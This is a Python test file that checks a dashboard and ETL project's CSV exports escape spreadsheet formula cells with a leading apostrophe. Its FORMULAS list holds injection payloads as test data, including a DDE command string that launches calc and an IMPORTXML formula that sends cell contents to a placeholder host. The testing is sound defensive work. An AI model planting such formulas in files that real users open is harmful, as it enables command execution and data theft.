"""Formula cells: every CSV the project writes (web downloads, `metering exhibits`, rejects.csv)
prefixes a text cell starting with = + - @ (or a tab or CR) with `'`; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest

from dashboard.downloads import chart_csv
from etl import paths
from etl.build import write_rejects
from etl.problems import Reject
from metering.cli import main
from tests.reliability.figures import report

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/x","click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-1+1",
    "-2",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")',
]


def cells(body: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


def test_text_cells_are_escaped_and_numbers_kept():
    frame = pl.DataFrame({"text": FORMULAS + ["a = b", "plain"], "n": [-5] * 12})
    rows = cells(chart_csv(frame))
    assert [r["text"] for r in rows[: len(FORMULAS)]] == ["'" + f for f in FORMULAS]
    assert [r["text"] for r in rows[len(FORMULAS) :]] == ["a = b", "plain"]
    assert {r["n"] for r in rows} == {"-5"}  # a negative number is not text: left as it is


def test_rejects_csv_is_spreadsheet_safe(tmp_path):
    write_rejects(tmp_path, [Reject("x.csv", 2, 3, "note", "=1+1", "bad")])
    assert cells((tmp_path / "rejects.csv").read_bytes())[0]["value"] == "'=1+1"


@pytest.fixture(scope="module")
def poisoned_marts(tmp_path_factory, real_dirs):
    """The committed record with formula text in the notes of waitlist_totals.csv."""
    import shutil

    root = tmp_path_factory.mktemp("formulas")
    shutil.copytree(real_dirs.raw, root / "curated")
    path = root / "curated" / "waitlist_totals.csv"
    rows = cells(path.read_bytes())
    for row, formula in zip(rows, FORMULAS, strict=False):
        row["note"] = formula
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, list(rows[0]), lineterminator="\n", quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerows(rows)
    marts = root / "marts"
    argv = ["build", "--raw-dir", str(root / "curated"), "--marts-dir", str(marts)]
    assert main(argv) == 0
    return paths.marts_path(marts)


def test_downloads_and_exhibits_escape_formula_cells(poisoned_marts, dash_app):
    from dashboard import data
    from dashboard.exports.render import render_figure
    from dashboard.figures.registry import Filters

    previous = data._MARTS
    data.use_marts(poisoned_marts)
    try:
        download = dash_app.server.test_client().get("/download/waitlist-border-total.csv")
        exhibit = render_figure("waitlist-border-total", Filters())[1]
    finally:
        data._MARTS = previous
    escaped = 0
    for body in (download.data, exhibit):
        notes = [r["note"] for r in cells(body)]
        for formula in FORMULAS:
            stored = formula.strip()  # the curated reader trims cells
            assert stored not in notes, stored
            escaped += ("'" + stored) in notes
        assert not any(n.startswith(("=", "+", "-", "@")) for n in notes if n)
    report(
        "formula cells", f"{2 * len(FORMULAS)} tried (download and exhibit CSV), {escaped} escaped"
    )
    assert escaped == 2 * len(FORMULAS)
